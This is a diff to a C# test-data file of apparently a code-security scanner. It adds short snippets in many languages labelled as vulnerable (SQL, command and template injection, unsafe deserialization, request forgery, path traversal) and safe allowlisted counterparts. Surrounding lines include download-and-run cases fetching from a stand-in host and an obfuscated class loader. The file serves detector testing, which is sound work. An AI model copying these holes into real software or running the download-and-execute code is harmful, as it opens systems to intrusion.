@@ -47,6 +47,24 @@ internal static class CallerDataCases
         { "a.rs", "code-command-injection", "pub fn size(source: &str) -> String {\n    Command::new(\"sh\").args([\"-c\", &format!(\"identify {source}\")]).output()\n}\n" },
         { "a.kt", "code-command-injection", "fun sh(line: String): String {\n  return ProcessBuilder(\"/bin/bash\", \"-c\", line).start().text()\n}\nfun main() {\n  post(\"/print\") {\n    val p = call.receiveParameters()\n    call.respondText(sh(\"lp -n ${p[\"n\"]}\"))\n  }\n}\n" },
         { "A.java", "code-obfuscated-execution", "class A extends ClassLoader {\n  Class<?> f(byte[] rest) {\n    for (int i = 0; i < rest.length; i++) { rest[i] ^= (byte) (i * 31 + 7); }\n    return defineClass(null, rest, 0, rest.length);\n  }\n}\n" },
+        // Where what is asked for stands in the head, or is handed on by a pipe.
+        { "a.rs", "code-sql-injection", "pub async fn find(Query(s): Query<Find>) -> String {\n    let sql = format!(\"select id from t where n = '{}'\", s.name);\n    sqlx::query(&sql).fetch_all(&db).await\n}\n" },
+        { "a.ex", "code-injection", "defmodule T do\n  use Phoenix.LiveView\n  def handle_event(\"x\", %{\"f\" => formula}, socket) do\n    {v, _} = Code.eval_string(formula)\n    {:noreply, v}\n  end\nend\n" },
+        { "a.ex", "code-injection", "defmodule T do\n  use Phoenix.LiveView\n  def handle_event(\"x\", %{\"m\" => name, \"f\" => f}, socket) do\n    apply(String.to_atom(name), f, [])\n  end\nend\n" },
+        { "a.ex", "code-unsafe-deserialization", "get \"/p\" do\n  f =\n    conn.query_params[\"f\"]\n    |> Base.url_decode64!()\n    |> :erlang.binary_to_term()\n  send(f)\nend\n" },
+        // A method that a caller names, a template that he writes, a command in marked brackets.
+        { "a.rb", "code-injection", "require 'sinatra'\nget '/x' do\n  Report.new.public_send(params['m'] || 'rows', 1)\nend\n" },
+        { "a.rb", "code-sql-injection", "class P < ApplicationController\n  def index\n    @p = Plan.where(\"parcel like '%#{params[:p]}%'\")\n  end\nend\n" },
+        { "a.rb", "code-command-injection", "get '/x' do\n  n = params[:n]\n  out = %x{host #{n}}\nend\n" },
+        { "a.pl", "code-command-injection", "use CGI;\nmy $h = $q->param('h');\nprint qx{host $h};\n" },
+        { "a.php", "code-injection", "<?php\nfunction view(Request $p) {\n  $d = $p->getParsedBody();\n  return $this->twig->createTemplate($d['text'])->render($d);\n}\n" },
+        // A list of arguments with a shell among them, and a program that is told to use one.
+        { "a.scala", "code-command-injection", "object W {\n  def lookup(name: String): String =\n    Seq(\"sh\", \"-c\", s\"whois $name | head\").!!\n}\n" },
+        { "a.dart", "code-command-injection", "import 'package:shelf/shelf.dart';\nhandler(Request r) async {\n  final q = r.url.queryParameters;\n  await Process.run('ffmpeg -i ${q['f']} out.mp4', const [], runInShell: true);\n}\n" },
+        { "a.kt", "code-request-forgery", "val client = HttpClient(CIO)\nfun main() {\n  get(\"/card\") {\n    val url = call.request.queryParameters[\"url\"]\n    val page = client.get(url)\n  }\n}\n" },
+        // Dots that are taken out once come back, and a name that is cut for the log is no check.
+        { "a.go", "code-path-read", "package main\nfunc h(w http.ResponseWriter, r *http.Request) {\n\tn := strings.ReplaceAll(r.URL.Query().Get(\"n\"), \"../\", \"\")\n\tfull := filepath.Join(root, n)\n\tf, _ := os.Open(full)\n\tlog.Print(filepath.Base(full), f)\n}\n" },
+        { "a.aspx.cs", "code-command-injection", "public partial class P : Page {\n  void Run() {\n    var p = new Process();\n    p.StartInfo.FileName = \"cmd.exe\";\n    p.StartInfo.Arguments = \"/c \" + txtLine.Text;\n    p.Start();\n  }\n}\n" },
         // What came over the network, run in another function.
         { "a.go", "code-download-and-run", "package main\nvar target = \"/tmp/agent\"\nfunc fetch() {\n\tresp, _ := http.Get(\"http://drop.example.net/agent\")\n\tdata, _ := io.ReadAll(resp.Body)\n\tos.WriteFile(\"/tmp/agent\", data, 0755)\n}\nfunc start() {\n\texec.Command(\"/tmp/agent\").Start()\n}\n" },
         { "a.cs", "code-download-and-run", "class P {\n  byte[] Get() { return client.GetByteArrayAsync(\"https://drop.example.net/p.dll\").Result; }\n  void Run() { var bytes = Get(); Assembly.Load(bytes).EntryPoint.Invoke(null, null); }\n}\n" },
@@ -58,6 +76,24 @@ internal static class CallerDataCases
 
     public static TheoryData<string, string> Honest => new()
     {
+        // What is chosen from a list is the program's own.
+        { "a.go", "package main\nvar probes = map[string][]string{\"disk\": {\"df\"}}\nfunc h(c *gin.Context) {\n\targv, ok := probes[c.PostForm(\"probe\")]\n\tif !ok {\n\t\treturn\n\t}\n\texec.Command(argv[0], argv[1:]...).Run()\n}\n" },
+        { "a.php", "<?php\n$sort = ['date' => 'due', 'nr' => 'nr'][$_GET['sort'] ?? 'date'] ?? 'due';\n$pdo->prepare(\"SELECT nr FROM t ORDER BY \" . $sort);\n" },
+        { "a.ex", "defmodule T do\n  @order %{\"name\" => :name}\n  def index(conn, params) do\n    order = Map.get(@order, params[\"order\"], :name)\n    Repo.query!(\"select id from t order by #{order}\")\n  end\nend\n" },
+        { "A.java", "class A {\n  @PostMapping\n  String read(@RequestParam String field) throws Exception {\n    if (!FIELDS.contains(field)) return null;\n    return xpath.evaluate(\"//\" + field, doc);\n  }\n}\n" },
+        { "a.php", "<?php\n$lang = in_array($_COOKIE['lang'] ?? '', ['en', 'fr'], true) ? $_COOKIE['lang'] : 'en';\ninclude \"lang/$lang.php\";\n" },
+        { "a.php", "<?php\nif (in_array($_POST['delete'] ?? '', $_SESSION['mine'], true)) {\n  unlink('/srv/p/' . $_POST['delete']);\n}\n" },
+        { "a.rs", "pub async fn find(Query(s): Query<Find>) -> String {\n    let order = match s.order.as_deref() { Some(\"title\") => \"title\", _ => \"year\" };\n    let sql = format!(\"select id from t where n = $1 order by {order}\");\n    sqlx::query(&sql).bind(s.name).fetch_all(&db).await\n}\n" },
+        // Where an upload lies for the time being is the server's choice.
+        { "a.php", "<?php\nif (isset($_FILES['track'])) {\n  $text = file_get_contents($_FILES['track']['tmp_name']);\n  $doc = simplexml_load_string($text);\n}\n" },
+        // What is bound beside a statement is no part of it.
+        { "a.pl", "use CGI ':standard';\nmy $n = param('n');\nmy $s = $db->selectall_arrayref('select n from t where n like ?', undef, \"%$n%\");\n" },
+        // A format, a number, a block that is evaluated, a reader that builds no objects.
+        { "a.pl", "use CGI;\nmy ($no) = $q->param('no') =~ /\\A(\\d{1,3})\\z/;\nopen(my $w, '<', \"/srv/psalms/$no\");\n" },
+        { "a.lua", "app:get('/x', function(self)\n  local v = self.params.v:match(\"^%d+%.%d+$\")\n  io.popen('zip game-' .. v .. '.zip .')\nend)\n" },
+        { "a.pl", "use Mojolicious::Lite;\npost '/x' => sub ($c) {\n  my $o = eval { decode_json(decode_base64($c->param('d'))) } or return;\n};\n" },
+        { "a.rb", "require 'net/http'\ndef flags\n  YAML.load(Net::HTTP.get(URI(url)), permitted_classes: [Symbol])\nend\n" },
+        { "a.kt", "class C {\n  @PostMapping\n  fun probe(@RequestParam rule: String): Any? {\n    val context = SimpleEvaluationContext.forReadOnlyDataBinding().build()\n    return parser.parseExpression(rule).getValue(context)\n  }\n}\n" },
         { "a.go", "package main\nfunc run(args ...string) {\n\texec.Command(\"git\", args...).Run()\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\trun(\"log\", r.FormValue(\"b\"))\n}\n" },
         { "a.go", "package main\nfunc find(name string) {\n\tdb.Query(\"SELECT * FROM t WHERE n = $1\", name)\n}\nfunc h(c *gin.Context) {\n\tfind(c.Query(\"n\"))\n}\n" },
         { "a.go", "package main\nfunc run(line string) {\n\texec.Command(\"sh\", \"-c\", line).Run()\n}\nfunc main() {\n\trun(\"make all\")\n\thttp.ListenAndServe(\":1\", nil)\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\tfmt.Fprint(w, r.FormValue(\"x\"))\n}\n" },
